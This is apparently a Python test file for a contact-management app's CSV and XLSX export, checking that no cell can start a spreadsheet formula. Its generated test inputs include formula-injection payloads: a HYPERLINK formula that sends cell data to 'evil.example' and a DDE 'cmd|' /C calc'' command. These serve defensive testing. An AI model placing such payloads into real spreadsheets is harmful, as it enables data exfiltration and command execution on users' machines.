"""QUALITY 5 (issue 10, item 10): no exported cell starts unescaped with ``= + - @``, tab, CR, LF or NUL — after
what a spreadsheet skips (spaces of every kind, zero-width and format characters, a BOM, line breaks) and with
full-width look-alikes read as what they look like; no formula cells. Phones are written without a visible mark."""

from __future__ import annotations

import csv
import io
import unicodedata

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.db import db, unit_of_work
from core.models import User
from core.services.clients import contacts, custom_fields
from core.services.platform.context import Actor
from core.services.transfer import export

STARTERS = "=+-@＝＋－＠﹦﹢﹣﹫"
# what a spreadsheet may skip before it reads a cell: every space, control and format character, combining marks
SKIPPABLE = st.characters(categories=("Zs", "Zl", "Zp", "Cc", "Cf", "Mn", "Me")) | st.sampled_from(
    "\t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u1680\u2000\u2007\u200a\u200b\u200c\u200d\u200e\u2028\u2029\u202f"
    "\u205f\u2060\u3000\ufeff\u00ad\u115f\u3164\uffa0\u034f")
BODIES = st.sampled_from(['1+1', 'HYPERLINK("http://evil.example/?"&A1;"x")', "cmd|' /C calc'!A0", "SUM(A1:A9)",
                          "2+3", "@", ""]) | st.text(max_size=12)
HOSTILE = st.builds(lambda prefix, starter, body: prefix + starter + body,
                    st.text(SKIPPABLE, max_size=4), st.sampled_from(STARTERS), BODIES)


def _skipped(char: str) -> bool:
    return (char.isspace() or unicodedata.category(char) in ("Zs", "Zl", "Zp", "Cc", "Cf", "Cn", "Co", "Cs", "Mn", "Me")
            or char in "\u115f\u1160\u3164\uffa0\u034f\u17b4\u17b5")


def assert_inert(cell: object) -> None:
    """The cell as a spreadsheet would read it cannot start a formula: escaped with an apostrophe, or a phone."""
    text = "" if cell is None else str(cell)
    if text.startswith("'"):
        return
    assert not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0")) or _phone(text), repr(text)
    rest = text
    while rest and _skipped(rest[0]):
        rest = rest[1:]
    assert not unicodedata.normalize("NFKC", rest[:1]).startswith(("=", "+", "-", "@")) or _phone(text), repr(text)


def _phone(text: str) -> bool:
    """A phone as exports write it: a "+", digits and separators, with a space (no function can hide there)."""
    return (text.startswith("+") and " " in text and text[1:2].isascii() and text[1:2].isdigit()
            and all(c in "0123456789 ()-." for c in text[1:]))


@given(st.lists(HOSTILE | st.text(max_size=20), min_size=1, max_size=6))
@settings(max_examples=300, deadline=None)
def test_every_cell_written_to_csv_is_inert(cells):
    header = [f"h{i}" for i in range(len(cells))]
    text = b"".join(export.to_csv(header, iter([cells]))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 2
    for cell, written in zip(cells, rows[1], strict=True):
        assert_inert(written)
        assert written in (cell.replace("\0", ""), "'" + cell.replace("\0", ""))  # nothing else changed


@given(st.lists(HOSTILE | st.text(max_size=20), min_size=1, max_size=6))
@settings(max_examples=150, deadline=None)
def test_every_cell_written_to_xlsx_is_a_string_and_inert(cells):
    target = io.BytesIO()
    export.to_xlsx([f"h{i}" for i in range(len(cells))], iter([cells]), target, "T")
    sheet = load_workbook(io.BytesIO(target.getvalue())).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert_inert(cell.value)


def test_phones_are_written_without_a_visible_mark():
    for phone in ("+44 20 7946 0958", "+7 495 123-45-67", "+1 (212) 555-0100"):
        assert export.neutralise(phone) == phone
    for not_a_phone in ("+7-495-1234567", "+447946095800", "+1 2+3", "-12 345", "+44 20 =1", "＋44 20 7946 0958"):
        assert export.neutralise(not_a_phone).startswith("'"), not_a_phone


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(HOSTILE, min_size=6, max_size=6))
def test_exports_from_the_pages_carry_no_formula(app, admin, admin_client, values):
    """From the database through the export routes: names, city, source, notes and a custom field hold formula
    look-alikes; the phone is written as it is shown."""
    with app.app_context(), unit_of_work():
        actor = Actor(db.session.get(User, admin.id))
        if not custom_fields.definitions("contact"):
            custom_fields.save_definition(actor, None, entity="contact", label="Комментарий", type_="text",
                                          choices=[], required=False)
        key = custom_fields.definitions("contact")[0].key
        record = contacts.save(actor, None, {
            "first_name": values[0], "last_name": values[1] or "x", "city": values[2], "source": values[3],
            "notes": values[4], "custom": {key: values[5]}, "phones": [{"raw": "+44 20 7946 0958"}]},
            keep_unparsed_phones=True)
        db.session.flush()
        contacts.add_tags(actor, [record.id], [f"example-{record.id}"])
        db.session.commit()
        record_id = record.id
    query = f"?tag=example-{record_id}"  # only this example's contact (the others stay in the database)
    text = admin_client.get("/export/contacts.csv" + query).get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 2
    assert "+44 20 7946 0958" in rows[1]
    for cell in rows[1]:
        assert_inert(cell)
    sheet = load_workbook(io.BytesIO(admin_client.get("/export/contacts.xlsx" + query).data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert "+44 20 7946 0958" in [c.value for c in cells]
    for cell in cells:
        assert cell.data_type != "f"
        assert_inert(cell.value)
